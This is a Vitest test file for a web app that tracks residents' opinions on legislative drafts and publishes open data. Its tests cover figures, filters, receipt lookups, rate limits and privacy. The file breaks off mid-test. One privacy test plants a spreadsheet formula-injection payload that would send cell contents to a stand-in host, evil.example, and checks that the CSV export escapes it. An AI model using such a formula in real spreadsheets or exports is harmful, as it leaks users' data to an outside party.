import type { LoaderFunctionArgs } from "@remix-run/node";
import { parse } from "csv-parse/sync";
import { sql } from "kysely";
import { beforeAll, describe, expect, it } from "vitest";
import { SEED_DAY } from "../setup/clock";
import { addDays } from "~/domain/dates";
import { countOpinionsByArticle, createDraft } from "~/models/drafts.server";
import { changeOpinionStatus, mergeOpinions, recordOutcome } from "~/models/opinions.server";
import { createReport } from "~/models/reports.server";
import { summarize } from "~/domain/tracker";
import { getDistrictStats } from "~/models/stats.server";
import { listTrackerDrafts } from "~/models/tracker-lists.server";
import { getTrackerSummary } from "~/models/tracker-summary.server";
import * as home from "~/routes/_index";
import * as draftsJson from "~/routes/open-data.drafts[.]json";
import * as openData from "~/routes/open-data._index";
import * as opinionsCsv from "~/routes/open-data.opinions[.]csv";
import * as summaryJson from "~/routes/open-data.summary[.]json";
import * as trackerContactPoint from "~/routes/tracker.contact-points.$id";
import * as trackerCoverage from "~/routes/tracker.drafts.$id.coverage";
import * as trackerDraft from "~/routes/tracker.drafts.$id._index";
import * as trackerDrafts from "~/routes/tracker.drafts._index";
import * as trackerStreets from "~/routes/tracker.places._index";
import * as trackerContactPoints from "~/routes/tracker.contact-points._index";
import * as tracker from "~/routes/tracker._index";
import * as trackerPlace from "~/routes/tracker.places.$id";
import * as receipt from "~/routes/tracker.receipt";
import { sendReport } from "~/services/reports.server";
import { nowIso, todayInChina } from "~/utils/clock.server";
import { db } from "~/utils/db.server";
import { receiptLookupsByAddress } from "~/utils/rate-limit.server";
import { seededDatabase } from "../setup/database";
import { callRoute, type RouteResult } from "../setup/routes";
import { expectAggregatesCurrent } from "../setup/tracker";

// The demo district reproduces the reported figures (docs/domain.md); the tracker and the
// open data must show them, move together when a record changes, and never leak a
// resident's name or phone number.

let address = 0;
const nextAddress = () => `10.1.${Math.floor(++address / 250)}.${address % 250}`;

const staffId = async () => (await db.selectFrom("users").select("id").where("username", "=", "staff").executeTakeFirstOrThrow()).id;

async function figures() {
  const [page, summary, drafts, front, stats] = await Promise.all([
    callRoute(tracker.loader, { path: "/tracker" }),
    callRoute(summaryJson.loader, { path: "/open-data/summary.json" }),
    callRoute(draftsJson.loader, { path: "/open-data/drafts.json" }),
    callRoute(home.loader, { path: "/" }),
    getDistrictStats(db, todayInChina()),
  ]);
  const list = drafts.data as { opinionsForwarded: number; opinionsAdopted: number; opinionsPartlyAdopted: number; consulted: boolean }[];
  return {
    page: page.data.summary,
    summary: summary.data,
    drafts: {
      consulted: list.filter((d) => d.consulted).length,
      forwarded: list.reduce((n, d) => n + d.opinionsForwarded, 0),
      adopted: list.reduce((n, d) => n + d.opinionsAdopted, 0),
      partly: list.reduce((n, d) => n + d.opinionsPartlyAdopted, 0),
    },
    home: front.data.figures,
    stats: { forwarded: stats.opinionsForwarded, adopted: stats.opinionsAdopted },
  };
}

/** Every row of a paged tracker list, following its pages. */
async function allPages(loader: (args: LoaderFunctionArgs) => Promise<{ pages: number }>, path: string, key: string) {
  const rows: any[] = [];
  for (let page = 1; ; page++) {
    const { status, data } = await callRoute(loader, { path: `${path}${path.includes("?") ? "&" : "?"}page=${page}` });
    expect(status).toBe(200);
    rows.push(...data[key]);
    if (page >= data.pages) return rows;
  }
}

async function csvRows(path = "/open-data/opinions.csv") {
  const result = await callRoute(opinionsCsv.loader, { path });
  expect(result.status).toBe(200);
  expect(result.headers.get("content-type")).toMatch(/^text\/csv/);
  // Response.text() drops the byte order mark; the bytes are checked apart.
  const text = result.data as string;
  return { text, rows: parse(text, { columns: true }) as Record<string, string>[] };
}

/** An opinion under review on a draft open for comment, not yet in any report. */
async function underReviewOnOpenDraft(skip: number[] = []) {
  return db
    .selectFrom("opinions as o")
    .innerJoin("drafts as d", "d.id", "o.draft_id")
    .select(["o.id", "o.draft_id", "o.grid_id", "o.contact_point_id", "o.receipt_code"])
    .where("d.status", "=", "open")
    .where("o.status", "=", "under_review")
    .where("o.id", "not in", skip.length ? skip : [0])
    .orderBy("o.id")
    .executeTakeFirstOrThrow();
}

beforeAll(async () => {
  await seededDatabase();
}, 180_000);

describe("the tracker on the demo district", () => {
  it("shows 48 drafts consulted, 770 forwarded and 91 adopted (25 partly), computed from records, everywhere alike", async () => {
    const f = await figures();
    expect(f.page).toMatchObject({ draftsConsulted: 48, counts: { forwarded: 770, adopted: 91, partlyAdopted: 25 } });
    expect(f.summary).toEqual({
      draftsConsulted: 48, opinionsForwarded: 770, opinionsAdopted: 91, opinionsPartlyAdopted: 25, adoptionRate: Number((91 / 770).toFixed(4)),
    });
    expect(Object.keys(f.summary)).toEqual(["draftsConsulted", "opinionsForwarded", "opinionsAdopted", "opinionsPartlyAdopted", "adoptionRate"]);
    expect(f.drafts).toEqual({ consulted: 48, forwarded: 770, adopted: 91, partly: 25 });
    expect(f.home).toMatchObject({ draftsConsulted: 48, forwarded: 770, adopted: 91 });
    expect(f.stats).toEqual({ forwarded: 770, adopted: 91 });
    // Outcomes exist only for enacted drafts: the rate over them is the same count over fewer forwarded.
    expect(f.page.enacted.adopted).toBe(91);
    expect(f.page.enacted.forwarded).toBeLessThan(770);
    expect(f.page.enacted.adoptionRate).toBeGreaterThan(f.page.adoptionRate);
    await expectAggregatesCurrent(db);
  });

  it("breaks the figures down by month, draft, street, contact point, channel and submitter", async () => {
    const { data } = await callRoute(tracker.loader, { path: "/tracker" });
    const sum = (list: { forwarded: number }[]) => list.reduce((n, x) => n + x.forwarded, 0);
    expect(sum(data.months)).toBe(770);
    // The overview shows the ten most recent drafts and the ten most active places; the lists show all, a page at a time.
    expect(data.drafts).toHaveLength(10);
    expect(data.contactPoints).toHaveLength(10);
    const ranked = data.contactPoints.map((p: { counts: { forwarded: number } }) => p.counts.forwarded);
    expect(ranked).toEqual([...ranked].sort((a, b) => b - a));
    const drafts = await allPages(trackerDrafts.loader, "/tracker/drafts", "drafts");
    expect(drafts).toHaveLength(data.activeDrafts);
    expect(sum(drafts.map((d: { counts: { forwarded: number } }) => d.counts))).toBe(770);
    expect(data.streets.map((s: { name: string }) => s.name).sort()).toEqual(["外海街道", "江南街道", "礼乐街道"].sort());
    expect(sum(data.streets.map((s: { counts: { forwarded: number } }) => s.counts))).toBe(770);
    const streets = await allPages(trackerStreets.loader, "/tracker/places", "streets");
    expect(streets.map((s: { name: string }) => s.name)).toEqual(["江南街道", "外海街道", "礼乐街道"]);
    const points = await allPages(trackerContactPoints.loader, "/tracker/contact-points", "contactPoints");
    expect(points).toHaveLength(59);
    expect(sum(points.map((p: { counts: { forwarded: number } }) => p.counts))).toBe(770);
    expect(points.reduce((n: number, p: { events: number }) => n + p.events, 0)).toBe(
      Number((await db.selectFrom("collection_events").select((eb) => eb.fn.countAll<number>().as("n")).where("held_on", "<=", SEED_DAY).executeTakeFirstOrThrow()).n),
    );
    expect(sum(data.facets.channels)).toBe(770);
    expect(sum(data.facets.submitterCategories)).toBe(770);
    // Months run without gaps from the first to the last.
    const months: string[] = data.months.map((m: { month: string }) => m.month);
    expect(months).toEqual([...months].sort());
    expect(new Set(months).size).toBe(months.length);
    // Grids are credited for opinions merged into adopted ones, so places add up to more than 91.
    const credited = data.streets.reduce((n: number, s: { counts: { adopted: number } }) => n + s.counts.adopted, 0);
    expect(credited).toBeGreaterThan(91);
    expect(data.cppcc).toMatchObject({ sessions: 62 });
  });

  it("filters by year and by requesting body, ignoring values it does not know", async () => {
    const all = (await callRoute(tracker.loader, { path: "/tracker" })).data;
    const year = all.options.years[1] as string;
    const byYear = (await callRoute(tracker.loader, { path: `/tracker?year=${year}` })).data;
    expect(byYear.filters.year).toBe(year);
    expect(byYear.summary.counts.forwarded).toBeLessThan(770);
    expect(byYear.summary.counts.forwarded).toBeGreaterThan(0);
    const local = "江门市人大常委会法制工作委员会";
    const byBody = (await callRoute(tracker.loader, { path: `/tracker?body=${encodeURIComponent(local)}` })).data;
    expect(byBody.filters.requestingBody).toBe(local);
    expect(byBody.drafts.every((d: { requestingBody: string }) => d.requestingBody === local)).toBe(true);
    // The headline figures in SQL agree with their definition in app/domain/tracker.ts, filtered or not.
    for (const filters of [{}, { year }, { requestingBody: local }, { year, requestingBody: local }]) {
      for (const today of ["2021-06-30", todayInChina()]) {
        expect(await getTrackerSummary(db, filters, today)).toEqual(summarize(await listTrackerDrafts(db, filters), today));
      }
    }
    // Filtered, the places' figures are those of the selected drafts; they still add up.
    const filteredPoints = await allPages(trackerContactPoints.loader, `/tracker/contact-points?year=${year}`, "contactPoints");
    expect(filteredPoints.reduce((n: number, p: { counts: { forwarded: number } }) => n + p.counts.forwarded, 0)).toBe(byYear.summary.counts.forwarded);
    const filteredStreets = await allPages(trackerStreets.loader, `/tracker/places?year=${year}`, "streets");
    expect(filteredStreets.reduce((n: number, p: { counts: { forwarded: number } }) => n + p.counts.forwarded, 0)).toBe(byYear.summary.counts.forwarded);
    for (const query of ["year=abcd", "year=1900", "body=nobody", "year=2022&year=2023", `body=${"x".repeat(500)}`]) {
      const result = await callRoute(tracker.loader, { path: `/tracker?${query}` });
      expect(result.status).toBe(200);
      expect(result.data.summary.counts.forwarded).toBe(770);
    }
  });

  it("gives each draft its timeline, counts per article and adopted opinions as forwarded", async () => {
    const draft = await db.selectFrom("drafts").select(["id"]).where("status", "=", "enacted").orderBy("id").executeTakeFirstOrThrow();
    const { status, data } = await callRoute(trackerDraft.loader, { params: { id: String(draft.id) } });
    expect(status).toBe(200);
    expect(data.reports).toHaveLength(1);
    expect(data.reports[0].opinions).toBe(data.draft.counts.forwarded);
    expect(data.articles.reduce((n: number, a: { forwarded: number }) => n + a.forwarded, 0)).toBe(data.draft.counts.forwarded);
    expect(data.adopted).toHaveLength(data.draft.counts.adopted);
    for (const o of data.adopted) {
      expect(["adopted", "partly_adopted"]).toContain(o.outcome);
      expect(o.opinion).toBeTruthy();
      expect(Object.keys(o)).not.toEqual(expect.arrayContaining(["collector_id", "resident_name", "submitter_category"]));
    }
    expect(data.coverage.total).toBeGreaterThan(0);
    expect(data.coverage.covered + data.coverage.gaps).toBe(data.coverage.total);
  });

  it("counts every draft's opinions per article, withdrawn records left out, as a count of the opinions gives them", async () => {
    // One more withdrawn, so that the running counts have followed a change too.
    const collected = await db.selectFrom("opinions").select("id").where("status", "=", "collected").orderBy("id").executeTakeFirstOrThrow();
    await changeOpinionStatus(db, { opinionIds: [collected.id], to: "withdrawn", userId: await staffId(), reason: "test" }, nowIso());
    const rows = await db
      .selectFrom("opinions")
      .select(["draft_id", "article_key", (eb) => eb.fn.countAll<number>().as("n")])
      .where("status", "!=", "withdrawn")
      .groupBy(["draft_id", "article_key"])
      .execute();
    const drafts = await db.selectFrom("drafts").select("id").execute();
    expect(rows.length).toBeGreaterThan(drafts.length);
    for (const { id } of drafts) {
      const expected = { byKey: {} as Record<string, number>, general: 0 };
      for (const r of rows.filter((r) => r.draft_id === id)) {
        if (r.article_key === null) expected.general = Number(r.n);
        else expected.byKey[r.article_key] = Number(r.n);
      }
      expect(await countOpinionsByArticle(db, id), `draft ${id}`).toEqual(expected);
    }
  });

  it("shows which grids gave opinions on a draft and which are gaps, under community and street", async () => {
    const draft = await db.selectFrom("drafts").select(["id"]).where("status", "=", "reported").orderBy("id").executeTakeFirstOrThrow();
    const { data } = await callRoute(trackerCoverage.loader, { params: { id: String(draft.id) } });
    const grids = data.coverage.streets.flatMap((s: { communities: { grids: { collected: number }[] }[] }) => s.communities.flatMap((c) => c.grids));
    expect(grids).toHaveLength(data.coverage.total);
    expect(grids.filter((g: { collected: number }) => g.collected === 0)).toHaveLength(data.coverage.gaps);
    expect(data.coverage.gaps).toBeGreaterThan(0);
    const collected = (await callRoute(trackerDraft.loader, { params: { id: String(draft.id) } })).data.draft.counts.collected;
    expect(grids.reduce((n: number, g: { collected: number }) => n + g.collected, 0)).toBe(collected);
  });

  it("gives each contact point and each street and community its record", async () => {
    const point = await db.selectFrom("contact_points").select("id").where("code", "=", "JH-L-05").executeTakeFirstOrThrow();
    const cp = await callRoute(trackerContactPoint.loader, { params: { id: String(point.id) } });
    expect(cp.status).toBe(200);
    expect(cp.data.grids.length).toBeGreaterThan(0);
    expect(cp.data.counts.collected).toBeGreaterThan(0);
    expect(cp.data.drafts.reduce((n: number, d: { counts: { forwarded: number } }) => n + d.counts.forwarded, 0)).toBe(cp.data.counts.forwarded);

    const street = await db.selectFrom("places").select("id").where("name", "=", "外海街道").executeTakeFirstOrThrow();
    const s = await callRoute(trackerPlace.loader, { params: { id: String(street.id) } });
    expect(s.data.place.level).toBe("street");
    expect(s.data.children).toHaveLength(19);
    expect(s.data.children.reduce((n: number, c: { counts: { collected: number } }) => n + c.counts.collected, 0)).toBe(s.data.counts.collected);
    expect(s.data.events).toBeGreaterThan(0);

    const community = await db.selectFrom("places").select("id").where("name", "=", "金溪社区").executeTakeFirstOrThrow();
    const c = await callRoute(trackerPlace.loader, { params: { id: String(community.id) } });
    expect(c.data.place).toMatchObject({ level: "community", street: { id: street.id } });
    expect(c.data.children.every((g: { level: string }) => g.level === "grid")).toBe(true);
    expect(c.data.contactPoints.length).toBeGreaterThan(0);
  });

  it("answers 404 for unknown, malformed and unpublished ids", async () => {
    const grid = await db.selectFrom("places").select("id").where("level", "=", "grid").executeTakeFirstOrThrow();
    const district = await db.selectFrom("places").select("id").where("level", "=", "district").executeTakeFirstOrThrow();
    const unpublished = await createDraft(db, {
      title: "未发布的草案", kind: "law", requestingBody: "全国人大常委会法制工作委员会", reading: "first",
      receivedOn: "2026-11-01", deadline: "2026-12-31", body: "第一条 测试。", createdBy: null,
    }, nowIso());
    for (const [fn, id] of [
      [trackerDraft.loader, "999999"], [trackerDraft.loader, "abc"], [trackerDraft.loader, "1e3"], [trackerDraft.loader, String(unpublished)],
      [trackerCoverage.loader, String(unpublished)], [trackerContactPoint.loader, "999999"], [trackerContactPoint.loader, "-1"],
      [trackerPlace.loader, String(grid.id)], [trackerPlace.loader, String(district.id)], [trackerPlace.loader, "x"],
    ] as const) {
      expect((await callRoute(fn, { params: { id } })).status, `${id}`).toBe(404);
    }
  });

  it("documents the open data on /open-data with the live figures", async () => {
    const { status, data } = await callRoute(openData.loader, { path: "/open-data" });
    expect(status).toBe(200);
    expect(data.example).toMatchObject({ opinionsForwarded: 770, opinionsAdopted: 91 });
  });
});

describe("receipt lookup", () => {
  it("shows the status timeline of one opinion, shared outcome included for a merged one", async () => {
    const adopted = await db
      .selectFrom("opinions as o")
      .innerJoin("opinion_outcomes as oc", "oc.opinion_id", "o.id")
      .select(["o.receipt_code", "o.status", "oc.outcome"])
      .where("oc.outcome", "=", "adopted")
      .executeTakeFirstOrThrow();
    const r = await callRoute(receipt.loader, { path: `/tracker/receipt?code=${adopted.receipt_code.toLowerCase().replace(/(....)/, "$1-")}`, address: nextAddress() });
    expect(r.status).toBe(200);
    // Seeing the outcome is being told it: the lookup is recorded as feedback given.
    expect(r.data.receipt).toMatchObject({ receiptCode: adopted.receipt_code, status: "feedback_given", next: null });
    const steps = r.data.receipt.steps as { step: string; outcome?: string; channels?: string[] }[];
    expect(steps.map((s) => s.step)).toEqual(["collected", "reviewed", "forwarded", "enacted", "outcome", "told"]);
    expect(steps.find((s) => s.step === "outcome")).toMatchObject({ outcome: "adopted" });
    expect(steps.find((s) => s.step === "told")!.channels).toContain("lookup");
    expect(JSON.stringify(r.data)).not.toMatch(/changed_by|collector|resident/);

    const merged = await db
      .selectFrom("opinions as o")
      .innerJoin("opinion_outcomes as oc", "oc.opinion_id", "o.merged_into_id")
      .select(["o.receipt_code", "oc.outcome"])
      .where("o.status", "=", "merged")
      .executeTakeFirstOrThrow();
    const m = await callRoute(receipt.loader, { path: `/tracker/receipt?code=${merged.receipt_code}`, address: nextAddress() });
    const mergedSteps = m.data.receipt.steps as { step: string; outcome?: string; on?: string }[];
    expect(mergedSteps.map((s) => s.step)).toEqual(expect.arrayContaining(["merged", "forwarded", "outcome"]));
    expect(mergedSteps.find((s) => s.step === "outcome")).toMatchObject({ outcome: merged.outcome });
    expect(mergedSteps.find((s) => s.step === "forwarded")!.on).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  });

  it("explains an unknown or malformed code, and shows the form without one", async () => {
    expect(await callRoute(receipt.loader, { path: "/tracker/receipt", address: nextAddress() })).toMatchObject({ status: 200, data: { error: null, receipt: null } });
    expect(await callRoute(receipt.loader, { path: "/tracker/receipt?code=", address: nextAddress() })).toMatchObject({ status: 200, data: { error: null } });
    const unknown = await callRoute(receipt.loader, { path: "/tracker/receipt?code=ZZZZZZZZ", address: nextAddress() });
    expect(unknown).toMatchObject({ status: 404, data: { error: "tracker:receipt.unknown", receipt: null } });
    for (const code of ["ABC", "AB3DEF4O", "<script>", "x".repeat(300)]) {
      const bad = await callRoute(receipt.loader, { path: `/tracker/receipt?code=${encodeURIComponent(code)}`, address: nextAddress() });
      expect(bad).toMatchObject({ status: 400, data: { error: "tracker:receipt.malformed", receipt: null } });
    }
  });

  it("limits lookups from one address so codes cannot be enumerated", async () => {
    const from = nextAddress();
    const { limit } = receiptLookupsByAddress;
    const statuses: number[] = [];
    for (let i = 0; i < limit + 5; i++) {
      statuses.push((await callRoute(receipt.loader, { path: `/tracker/receipt?code=ZZZZ${String(1000 + i).replace(/[01]/g, "Z")}`, address: from })).status);
    }
    expect(statuses.slice(0, limit).every((s) => s === 404)).toBe(true);
    expect(statuses.slice(limit)).toEqual([429, 429, 429, 429, 429]);
    // Another address is not affected.
    expect((await callRoute(receipt.loader, { path: "/tracker/receipt?code=ZZZZZZZZ", address: nextAddress() })).status).toBe(404);
  });
});

describe("open data files", () => {
  it("stream every forwarded opinion as CSV, without names, phones or collectors", async () => {
    const { text, rows } = await csvRows();
    expect(rows).toHaveLength(770);
    expect(Object.keys(rows[0])).toEqual([
      "id", "draft_id", "draft_title", "requesting_body", "article_number", "street", "community", "grid_code", "contact_point_code",
      "channel", "submitter_category", "collected_on", "forwarded_on", "status", "outcome", "final_article_number", "draft_enacted_on",
      "merged_opinions", "opinion", "suggested_revision", "reason",
    ]);
    expect(rows.filter((r) => r.outcome === "adopted" || r.outcome === "partly_adopted")).toHaveLength(91);
    expect(rows.every((r) => /^440704\d{9}$/.test(r.grid_code))).toBe(true);
    const ids = rows.map((r) => Number(r.id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(text).toContain("\r\n");
    const raw = await opinionsCsv.loader({ request: new Request("http://localhost/open-data/opinions.csv"), params: {}, context: {} });
    const bytes = new Uint8Array(await raw.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const collectors = await db.selectFrom("users").select("display_name").where("role", "in", ["informant", "liaison"]).execute();
    expect(collectors.filter((c) => text.includes(c.display_name))).toEqual([]);
  });

  it("send ETags and cache headers, and 304 when nothing changed", async () => {
    for (const loader of [summaryJson.loader, draftsJson.loader, opinionsCsv.loader]) {
      const first = await loader({ request: new Request("http://localhost/x"), params: {}, context: {} });
      const etag = first.headers.get("etag");
      expect(etag).toMatch(/^"[^"]+"$/);
      expect(first.headers.get("cache-control")).toBe("public, no-cache");
      const again = await loader({ request: new Request("http://localhost/x", { headers: { "if-none-match": etag! } }), params: {}, context: {} });
      expect(again.status).toBe(304);
      await first.body?.cancel();
    }
  });
});

describe("changes reach every figure at once", () => {
  it("forwarding one more opinion makes it 771 on the tracker, the home page, summary.json, drafts.json and the CSV", async () => {
    await seededDatabase();
    const before = await callRoute(summaryJson.loader, { path: "/open-data/summary.json" });
    const opinion = await underReviewOnOpenDraft();
    const draftBefore = (await callRoute(trackerDraft.loader, { params: { id: String(opinion.draft_id) } })).data.draft.counts;
    const userId = await staffId();
    const reportId = await createReport(db, { draftId: opinion.draft_id, title: "提前报送", opinionIds: [opinion.id], userId }, nowIso());
    // A report not yet sent moves nothing.
    expect((await figures()).summary.opinionsForwarded).toBe(770);
    await sendReport({ reportId, recipient: "全国人大常委会法制工作委员会", sentOn: "2026-11-27", userId });

    const f = await figures();
    expect(f.page.counts.forwarded).toBe(771);
    expect(f.summary.opinionsForwarded).toBe(771);
    expect(f.drafts.forwarded).toBe(771);
    expect(f.home.forwarded).toBe(771);
    expect(f.stats.forwarded).toBe(771);
    // The comment period of an open draft is not over: still 48 consulted.
    expect(f.summary.draftsConsulted).toBe(48);
    expect(f.summary.adoptionRate).toBe(Number((91 / 771).toFixed(4)));
    const draftAfter = (await callRoute(trackerDraft.loader, { params: { id: String(opinion.draft_id) } })).data.draft.counts;
    expect(draftAfter.forwarded).toBe(draftBefore.forwarded + 1);
    const { rows } = await csvRows();
    expect(rows).toHaveLength(771);
    expect(rows.some((r) => Number(r.id) === opinion.id && r.status === "forwarded")).toBe(true);
    const lookup = await callRoute(receipt.loader, { path: `/tracker/receipt?code=${opinion.receipt_code}`, address: nextAddress() });
    expect(lookup.data.receipt).toMatchObject({ status: "forwarded", next: "enactment" });
    expect(lookup.data.receipt.steps.find((s: { step: string }) => s.step === "forwarded")).toMatchObject({ on: "2026-11-27" });
    // The open data's ETags moved with it.
    expect((await callRoute(summaryJson.loader)).headers.get("etag")).not.toBe(before.headers.get("etag"));
    await expectAggregatesCurrent(db);
  });

  it("counts a merged opinion once, credits its grid with the adoption, and follows every code path", async () => {
    await seededDatabase();
    const primary = await underReviewOnOpenDraft();
    const other = await db
      .selectFrom("opinions")
      .select(["id", "grid_id", "contact_point_id"])
      .where("draft_id", "=", primary.draft_id)
      .where("status", "=", "under_review")
      .where("id", "!=", primary.id)
      .where("contact_point_id", "!=", primary.contact_point_id)
      .executeTakeFirstOrThrow();
    const userId = await staffId();
    const pointBefore = (await callRoute(trackerContactPoint.loader, { params: { id: String(other.contact_point_id) } })).data.counts;

    await mergeOpinions(db, { primaryId: primary.id, mergedIds: [other.id], userId }, nowIso());
    const reportId = await createReport(db, { draftId: primary.draft_id, title: "提前报送", opinionIds: [primary.id], userId }, nowIso());
    await sendReport({ reportId, recipient: "全国人大常委会法制工作委员会", sentOn: "2026-11-27", userId });
    expect((await figures()).summary.opinionsForwarded).toBe(771);

    await recordOutcome(db, { opinionId: primary.id, outcome: "partly_adopted", note: "部分吸收", finalArticleNumber: 3, userId }, nowIso());
    let f = await figures();
    expect(f.summary).toMatchObject({ opinionsForwarded: 771, opinionsAdopted: 92, opinionsPartlyAdopted: 26 });
    expect(f.home.adopted).toBe(92);
    const pointAfter = (await callRoute(trackerContactPoint.loader, { params: { id: String(other.contact_point_id) } })).data.counts;
    expect(pointAfter.forwarded).toBe(pointBefore.forwarded);
    expect(pointAfter.mergedForwarded).toBe(pointBefore.mergedForwarded + 1);
    expect(pointAfter.adopted).toBe(pointBefore.adopted + 1);
    expect(pointAfter.partlyAdopted).toBe(pointBefore.partlyAdopted + 1);
    await expectAggregatesCurrent(db);

    // Feedback keeps the outcome; a change made outside the app's functions is counted too.
    await changeOpinionStatus(db, { opinionIds: [primary.id], to: "feedback_given", userId }, nowIso());
    expect((await figures()).summary.opinionsAdopted).toBe(92);
    await sql`UPDATE opinion_outcomes SET outcome = 'not_adopted' WHERE opinion_id = ${primary.id}`.execute(db);
    f = await figures();
    expect(f.summary).toMatchObject({ opinionsAdopted: 91, opinionsPartlyAdopted: 25 });
    await sql`DELETE FROM opinion_outcomes WHERE opinion_id = ${primary.id}`.execute(db);
    await expectAggregatesCurrent(db);
  });

  it("keeps the headline figures over all drafts, read from totals per status, equal to a pass over the drafts, on any day", async () => {
    await seededDatabase();
    const today = todayInChina();
    const userId = await staffId();
    /** The figures over all drafts as the domain computes them from every draft, on the days given. */
    const expectSummaryCurrent = async (...days: string[]) => {
      const drafts = await listTrackerDrafts(db, {});
      for (const day of days) expect(await getTrackerSummary(db, {}, day), day).toEqual(summarize(drafts, day));
      await expectAggregatesCurrent(db);
    };
    await expectSummaryCurrent(today, "2000-01-01", "2099-12-31");

    // A report sent for a draft still open: consulted only once its deadline has passed.
    const opinion = await underReviewOnOpenDraft();
    const { deadline } = await db.selectFrom("drafts").select("deadline").where("id", "=", opinion.draft_id).executeTakeFirstOrThrow();
    const reportId = await createReport(db, { draftId: opinion.draft_id, title: "提前报送", opinionIds: [opinion.id], userId }, nowIso());
    await sendReport({ reportId, recipient: "全国人大常委会法制工作委员会", sentOn: today, userId });
    expect((await getTrackerSummary(db, {}, deadline)).draftsConsulted).toBe(48);
    expect((await getTrackerSummary(db, {}, addDays(deadline, 1))).draftsConsulted).toBe(49);
    await expectSummaryCurrent(today, deadline, addDays(deadline, 1));

    // Drafts withdrawn, enacted, unpublished and published, reports unsent and deleted, by hand too.
    const enacted = await db.selectFrom("drafts").select("id").where("status", "=", "enacted").orderBy("id").executeTakeFirstOrThrow();
    await sql`UPDATE drafts SET status = 'withdrawn', enacted_on = NULL WHERE id = ${enacted.id}`.execute(db);
    expect((await getTrackerSummary(db, {}, today)).draftsConsulted).toBe(47);
    await expectSummaryCurrent(today);
    await sql`UPDATE drafts SET status = 'enacted', enacted_on = ${today} WHERE id = ${opinion.draft_id}`.execute(db);
    await expectSummaryCurrent(today, addDays(deadline, 1));
    await sql`UPDATE reports SET status = 'draft', sent_on = NULL, recipient = NULL WHERE id = ${reportId}`.execute(db);
    await expectSummaryCurrent(addDays(deadline, 1));
    await sql`UPDATE reports SET status = 'sent', sent_on = ${today}, recipient = '全国人大常委会法制工作委员会' WHERE id = ${reportId}`.execute(db);
    await sql`UPDATE opinions SET report_id = NULL, status = 'under_review' WHERE report_id = ${reportId}`.execute(db);
    await sql`DELETE FROM reports WHERE id = ${reportId}`.execute(db);
    await expectSummaryCurrent(today, addDays(deadline, 1));
    const { id: draftId } = await db
      .insertInto("drafts")
      .values({ title: "测试草案", kind: "law", requesting_body: "全国人大常委会法制工作委员会", received_on: today, deadline: addDays(today, 30), created_at: nowIso(), updated_at: nowIso() })
      .returning("id")
      .executeTakeFirstOrThrow();
    await expectSummaryCurrent(today);
    await sql`UPDATE drafts SET status = 'open' WHERE id = ${draftId}`.execute(db);
    await expectSummaryCurrent(today);
    await sql`DELETE FROM drafts WHERE id = ${draftId}`.execute(db);
    await expectSummaryCurrent(today);
  });
});

describe("privacy of the public pages and files", () => {
  it("withholds flagged text and escapes formulas in the CSV", async () => {
    await seededDatabase();
    const [flagged, formula] = await db
      .selectFrom("opinions as o")
      .innerJoin("opinion_outcomes as oc", "oc.opinion_id", "o.id")
      .select(["o.id", "o.draft_id", "o.receipt_code"])
      .where("oc.outcome", "=", "adopted")
      .orderBy("o.id")
      .limit(2)
      .execute();
    const secret = "我家住在江南街道某某路十八号";
    await sql`UPDATE opinions SET contains_personal_info = 1, formal_opinion = ${secret}, opinion = ${secret} WHERE id = ${flagged.id}`.execute(db);
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
    await sql`UPDATE opinions SET formal_opinion = ${hyperlink} WHERE id = ${formula.id}`.execute(db);

    const { text, rows } = await csvRows();
    expect(text).not.toContain(secret);
    expect(rows.find((r) => Number(r.id) === flagged.id)!.opinion).toBe("[已隐去：含个人信息]");
    expect(rows.find((r) => Number(r.id) === formula.id)!.opinion).toBe(`'${hyperlink}`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const english = await csvRows("/open-data/opinions.csv?lng=en");
    expect(english.rows.find((r) => Number(r.id) === flagged.id)!.opinion).toBe("[withheld: contains personal information]");

    const page = await callRoute(trackerDraft.loader, { params: { id: String(flagged.draft_id) } });
    expect(JSON.stringify(page.data)).not.toContain(secret);
    expect(page.data.adopted.find((o: { id: number }) => o.id === flagged.id)).toMatchObject({ withheld: true, opinion: null });
    const lookup = await callRoute(receipt.loader, { path: `/tracker/receipt?code=${flagged.receipt_code}`, address: nextAddress() });
    expect(lookup.data.receipt.text).toBeNull();
    expect(JSON.stringify(lookup.data)).not.toContain(secret);
  });

  it("never shows a seeded resident's name or phone on any public page or open-data file", async () => {
    await seededDatabase();
    const residents = await db
      .selectFrom("opinions")
      .select(["resident_name", "resident_phone", "receipt_code"])
      .where((eb) => eb.or([eb("resident_name", "is not", null), eb("resident_phone", "is not", null)]))
      .execute();
    expect(residents.length).toBeGreaterThan(100);
    const secrets = [...new Set(residents.flatMap((r) => [r.resident_name, r.resident_phone]).filter((v): v is string => Boolean(v)))];

    const outputs: [string, RouteResult][] = [];
    const add = async (label: string, result: Promise<RouteResult>) => outputs.push([label, await result]);
    await add("/tracker", callRoute(tracker.loader, { path: "/tracker" }));
    await add("/tracker?year", callRoute(tracker.loader, { path: "/tracker?year=2021" }));
    for (const [path, loader] of [["/tracker/drafts", trackerDrafts.loader], ["/tracker/places", trackerStreets.loader], ["/tracker/contact-points", trackerContactPoints.loader]] as const) {
      for (const page of [1, 2]) await add(`${path} ${page}`, callRoute(loader, { path: `${path}?page=${page}` }));
    }
    await add("/open-data", callRoute(openData.loader, { path: "/open-data" }));
    await add("summary.json", callRoute(summaryJson.loader, { path: "/open-data/summary.json" }));
    await add("drafts.json", callRoute(draftsJson.loader, { path: "/open-data/drafts.json" }));
    await add("opinions.csv", callRoute(opinionsCsv.loader, { path: "/open-data/opinions.csv" }));
    for (const d of await db.selectFrom("drafts").select("id").where("status", "!=", "draft").execute()) {
      await add(`draft ${d.id}`, callRoute(trackerDraft.loader, { params: { id: String(d.id) } }));
      await add(`coverage ${d.id}`, callRoute(trackerCoverage.loader, { params: { id: String(d.id) } }));
    }
    for (const p of await db.selectFrom("contact_points").select("id").execute()) {
      await add(`contact point ${p.id}`, callRoute(trackerContactPoint.loader, { params: { id: String(p.id) } }));
    }
    for (const p of await db.selectFrom("places").select("id").where("level", "in", ["street", "community"]).execute()) {
      await add(`place ${p.id}`, callRoute(trackerPlace.loader, { params: { id: String(p.id) } }));
    }
    // The very opinions that carry a name or phone, looked up by their receipt codes.
